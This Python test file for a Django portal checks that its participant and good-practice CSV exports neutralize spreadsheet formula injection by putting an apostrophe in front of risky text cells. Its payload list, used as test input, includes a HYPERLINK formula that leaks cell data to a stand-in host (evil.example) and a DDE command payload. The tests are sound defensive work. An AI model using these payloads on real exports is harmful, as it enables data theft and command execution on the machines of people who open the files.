"""Formula injection: every CSV export writes hostile text as text, never as a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return followed by one) as a formula. Every export goes
through one writer (``cidi_meeting.spreadsheets``) that starts such a text cell with an
apostrophe, as OWASP advises. Numbers written as numbers (a rank, an order, a budget)
stay numbers, a negative one included: only text is neutralized.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from accounts.models import User
from delegations.models import Delegation, DelegationMember
from outcomes.models import GoodPractice
from tests.outcomes.factories import GoodPracticeFactory, delegation_of

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Every export of the portal that a spreadsheet opens, each tested below.
TESTED_EXPORTS = {"participants.csv", "practices/export.csv"}


def read_rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def is_number(cell):
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (cell, row)


def spreadsheet_routes(resolver=None, prefix=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from spreadsheet_routes(pattern, route)
        elif isinstance(pattern, URLPattern) and route.endswith((".csv", ".tsv", ".xlsx", ".xls")):
            yield route


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_the_writer_starts_a_formula_text_with_an_apostrophe(payload):
    from cidi_meeting.spreadsheets import spreadsheet_cell

    assert spreadsheet_cell(payload) == "'" + payload


def test_the_writer_keeps_numbers_and_ordinary_text():
    from cidi_meeting.spreadsheets import spreadsheet_cell

    assert spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(Decimal("-1250.50")) == Decimal("-1250.50")
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(["=1", "b"]) == "'=1; b"
    assert spreadsheet_cell("Ana María Pérez") == "Ana María Pérez"
    assert spreadsheet_cell("ana@example.org") == "ana@example.org"


def test_every_spreadsheet_export_of_the_portal_is_tested_here():
    routes = set(spreadsheet_routes())

    assert {route for route in routes if route.endswith(tuple(TESTED_EXPORTS))} == routes
    assert len(routes) == len(TESTED_EXPORTS)


def test_the_participants_csv_neutralizes_formulas_in_every_text(demo_meeting):
    panama = Delegation.objects.get(meeting=demo_meeting, member_state__iso2="PA")
    for order, payload in enumerate(FORMULA_PAYLOADS, start=50):
        DelegationMember.objects.create(
            delegation=panama,
            order=order,
            protocol_title=payload[:60],
            full_name=payload,
            position=payload,
            email=payload,
            role="adviser",
        )
    client = Client()
    client.force_login(User.objects.get(email="secretariat@example.org"))

    response = client.get(f"/secretariat/meetings/{demo_meeting.slug}/participants.csv")

    rows = read_rows(response)
    assert_no_formula(rows)
    hostile = [row for row in rows if row[4] in {"'" + payload for payload in FORMULA_PAYLOADS}]
    assert [row[4] for row in hostile] == ["'" + payload for payload in FORMULA_PAYLOADS]
    assert all(row[3] == row[4][:61] and row[5] == row[8] == row[4] for row in hostile)
    # The numbers stay numbers: rank and protocol order.
    assert all(
        row[0].isdigit() and row[2] == str(order)
        for row, order in zip(hostile, range(50, 56), strict=True)
    )


def test_the_compendium_csv_neutralizes_formulas_in_every_text(client, demo_meeting):
    GoodPractice.objects.filter(meeting=demo_meeting).delete()
    for payload in FORMULA_PAYLOADS:
        GoodPracticeFactory(
            delegation=delegation_of(demo_meeting, "PA"),
            title=payload,
            programme_name=payload,
            description=f"<p>{payload}</p>",
            results=payload,
            lessons=payload,
            gender_notes=payload,
            contact_name=payload,
            links=payload,
            budget_amount=Decimal("-1250.50"),
        )

    response = client.get("/practices/export.csv")

    rows = read_rows(response)
    assert len(rows) == 1 + len(FORMULA_PAYLOADS)
    assert_no_formula(rows)
    heading = rows[0]
    titles = sorted(row[heading.index("Title")] for row in rows[1:])
    assert titles == sorted("'" + payload for payload in FORMULA_PAYLOADS)
    assert {row[heading.index("Budget")] for row in rows[1:]} == {"-1250.50"}
